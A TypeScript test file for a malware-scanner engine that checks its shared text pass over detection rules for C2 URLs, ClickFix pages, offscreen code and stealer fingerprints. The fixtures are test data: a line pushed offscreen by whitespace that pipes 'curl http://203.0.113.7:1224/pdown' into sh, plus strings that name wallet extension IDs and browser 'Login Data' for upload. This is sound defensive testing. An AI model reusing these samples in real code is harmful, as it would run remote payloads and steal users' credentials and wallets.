/**
 * The engine's shared text pass (Rule.eachText, src/engine/run.ts): the rules that read every text file of some kind
 * read each one once between them, report what they reported rule by rule, and one that fails stops alone.
 */
import assert from 'node:assert/strict';
import { readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { BaseWorkspace, LARGE_TEXT_TREE } from '../src/acquire/workspace.js';
import { acquireLocal } from '../src/acquire/local.js';
import { buildInventory } from '../src/engine/inventory.js';
import { runRules } from '../src/engine/run.js';
import { RULES } from '../src/rules/index.js';
import { defineRule, visitedTexts, type Rule, type RuleContext, type TextVisitor } from '../src/rules/define-rule.js';
import { loadSignatures } from '../src/signatures/load.js';
import { DEFAULT_LIMITS } from '../src/options.js';
import type { Diagnostic, Finding, Workspace } from '../src/types.js';
import { FIXTURES } from './helpers.js';

const sigs = loadSignatures();
const READERS = RULES.filter((r) => r.eachText);

/** A workspace of in-memory files whose loads are counted by path. */
function counted(files: Record<string, string>): { ws: BaseWorkspace; loads: Map<string, number> } {
  const loads = new Map<string, number>();
  const ws = new BaseWorkspace(
    '/virtual',
    { source: 'virtual' },
    Object.entries(files).map(([p, text]) => ({
      path: p,
      size: Buffer.byteLength(text),
      kind: 'file' as const,
      load: async () => {
        loads.set(p, (loads.get(p) ?? 0) + 1);
        return Buffer.from(text);
      },
    })),
    DEFAULT_LIMITS,
    [],
  );
  return { ws, loads };
}

const strip = (fs: Finding[]) => fs.map((f) => `${f.ruleId} ${f.severity} ${f.location.file}:${f.location.line ?? ''} ${f.message}`);

describe('the shared text pass of the rules that read every text', () => {
  it('is used by c2-url, clickfix-page, offscreen-code and stealer-fingerprint', () => {
    assert.deepEqual(READERS.map((r) => r.meta.id).sort(), ['c2-url', 'clickfix-page', 'offscreen-code', 'stealer-fingerprint']);
  });

  it('reads each text once for all of them where rule by rule each read it again (a tree that keeps no text)', async () => {
    const files: Record<string, string> = {
      'src/loader.js': `module.exports = router;${' '.repeat(400)}require('child_process').exec('curl http://203.0.113.7:1224/pdown | sh');\n`,
      'src/steal.js': `const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];\nconst p = 'Local Extension Settings';\nform.append('file', 'Login Data'); fetch('/uploads', { method: 'POST' });\n`,
      'src/copy.js': `navigator.clipboard.writeText(cmd);\n${'// padding\n'.repeat(20)}`,
      'README.md': 'See https://example.invalid/docs for more.\n'.repeat(8),
      'data/notes.txt': 'nothing to see here\n'.repeat(20),
    };
    const saved = LARGE_TEXT_TREE.bytes;
    try {
      LARGE_TEXT_TREE.bytes = 0; // every tree is large: the text cache keeps nothing
      const run = async (rules: readonly Rule[]) => {
        const { ws, loads } = counted(files);
        const diagnostics: Diagnostic[] = [];
        const findings = await runRules(rules, ws, await buildInventory(ws, []), sigs, DEFAULT_LIMITS, diagnostics);
        return { findings, diagnostics, loads, ws };
      };
      const shared = await run(READERS);
      // The same rules without eachText: each check() walks the files itself (visitedTexts), as every rule did before.
      const own = await run(READERS.map((r) => defineRule({ meta: r.meta, check: (ctx: RuleContext) => r.check(ctx) })));
      assert.deepEqual(strip(shared.findings), strip(own.findings));
      assert.deepEqual(shared.diagnostics, own.diagnostics);
      assert.ok(['offscreen-code', 'c2-url', 'stealer-fingerprint'].every((id) => shared.findings.some((f) => f.ruleId === id)), strip(shared.findings).join('\n'));
      // Each file is read once less for every rule beyond the first that wants its text (other reads — the source
      // index, clickfix-page's own analysis of a copy script — are the same either way).
      const ctx = { signatures: sigs, limits: DEFAULT_LIMITS } as unknown as RuleContext;
      const visitors = READERS.map((r) => r.eachText!(ctx));
      for (const f of shared.ws.files) {
        const wanting = visitors.filter((v) => v.wants(f)).length;
        assert.ok(wanting >= 1, f.path);
        assert.equal(own.loads.get(f.path)! - shared.loads.get(f.path)!, wanting - 1, `${f.path}: ${own.loads.get(f.path)} reads rule by rule, ${shared.loads.get(f.path)} shared, ${wanting} rules`);
      }
      assert.equal(shared.loads.get('README.md'), 1);
    } finally {
      LARGE_TEXT_TREE.bytes = saved;
    }
  });

  it("gives every fixture repository the same findings and diagnostics, in the same order, as each rule's own walk", async () => {
    const repos = readdirSync(path.join(FIXTURES, 'repos')).filter((r) => statSync(path.join(FIXTURES, 'repos', r)).isDirectory());
    assert.ok(repos.length > 50);
    let found = 0;
    for (const repo of repos) {
      const dir = path.join(FIXTURES, 'repos', repo);
      const ws = await acquireLocal(dir, DEFAULT_LIMITS);
      const inventory = await buildInventory(ws, []);
      const d1: Diagnostic[] = [];
      const shared = await runRules(RULES, ws, inventory, sigs, DEFAULT_LIMITS, d1);
      // Without eachText the engine runs each rule's check(), which walks the files itself (visitedTexts).
      const plain = RULES.map((r) => defineRule({ meta: r.meta, check: (ctx: RuleContext) => r.check(ctx) }));
      const ws2 = await acquireLocal(dir, DEFAULT_LIMITS);
      const d2: Diagnostic[] = [];
      const own = await runRules(plain, ws2, await buildInventory(ws2, []), sigs, DEFAULT_LIMITS, d2);
      assert.deepEqual(strip(shared), strip(own), repo);
      assert.deepEqual(d1, d2, repo);
      found += shared.filter((f) => READERS.some((r) => r.meta.id === f.ruleId)).length;
    }
    assert.ok(found >= 15, `${found} findings of the text rules in the fixtures`);
  });

  it('stops when the scan runs out of time, and the rules that read texts do not walk the files again', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 300; i++) files[`f${String(i).padStart(3, '0')}.txt`] = `line ${i}\n`;
    const { ws } = counted(files);
    let visits = 0;
    const slow = defineRule({
      meta: { ...READERS[0].meta, id: 'slow-reader' },
      check: async (ctx) => {
        await visitedTexts(ctx, reader);
      },
      eachText: () => reader(),
    });
    function reader(): TextVisitor {
      return {
        wants: () => true,
        visit: () => {
          visits++;
          const until = Date.now() + 2;
          while (Date.now() < until);
        },
      };
    }
    const diagnostics: Diagnostic[] = [];
    await runRules([slow], ws, await buildInventory(ws, []), sigs, { ...DEFAULT_LIMITS, maxScanMs: 50 }, diagnostics);
    assert.ok(visits < 300, `${visits} texts visited`);
    assert.deepEqual(
      diagnostics.map((d) => d.code),
      ['scan-time-limit'],
    );
    assert.match(diagnostics[0].message, /1 rule\(s\) did not run: slow-reader/);
  });

  it('stops only the rule whose visitor throws, with a rule-error at its turn', async () => {
    const { ws } = counted({ 'a.js': 'const u = "http://203.0.113.9:1224/pdown";\n', 'b.js': 'let x = 1;\n' });
    const broken = defineRule({
      meta: { ...READERS[0].meta, id: 'broken-reader' },
      check: () => {},
      eachText: () => ({
        wants: () => true,
        visit: (file) => {
          if (file.path === 'b.js') throw new Error('cannot read b.js');
        },
      }),
    });
    const c2 = RULES.find((r) => r.meta.id === 'c2-url')!;
    const diagnostics: Diagnostic[] = [];
    const findings = await runRules([broken, c2], ws as Workspace, await buildInventory(ws, []), sigs, DEFAULT_LIMITS, diagnostics);
    assert.deepEqual(
      diagnostics.map((d) => [d.code, d.message]),
      [['rule-error', 'rule broken-reader did not finish: cannot read b.js']],
    );
    assert.deepEqual(findings.map((f) => f.ruleId), ['c2-url']);
  });
});
